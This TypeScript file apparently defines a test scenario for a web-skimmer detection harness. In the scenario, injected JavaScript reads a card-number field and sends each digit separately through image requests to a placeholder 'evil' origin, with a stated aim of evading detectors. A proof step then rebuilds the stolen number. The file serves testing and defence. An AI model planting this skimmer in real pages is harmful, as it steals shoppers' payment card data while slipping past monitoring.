import { holds, js, skimmer } from '../behaviour.ts';
import { at } from '../site/arrivals.ts';
import { withCard } from '../snippets.ts';

export default skimmer({
  id: 'one-character-a-request',
  why: 'Every key goes out alone: no message holds more than one digit.',
  covers: ['reading: change and keys', 'sending: image', 'evade: detectors'],
  base: 'direct',
  install: (site) =>
    site.append(
      withCard(js`
  var sent = 0;
  document.getElementsByName('card_number')[0].addEventListener('input', function (event) {
    var value = event.target.value;
    for (; sent < value.length; sent++) new Image().src = '${site.origins.evil}/s.gif?n=' + sent + '&k=' + (value.charCodeAt(sent) + 200);
  });`),
    ),
  proof: holds((arrived) => [
    at(arrived, 'evil', '/s.gif')
      .toSorted((a, b) => Number(a.url.searchParams.get('n')) - Number(b.url.searchParams.get('n')))
      .map(({ url }) => String.fromCharCode(Number(url.searchParams.get('k')) - 200))
      .join(''),
  ]),
});
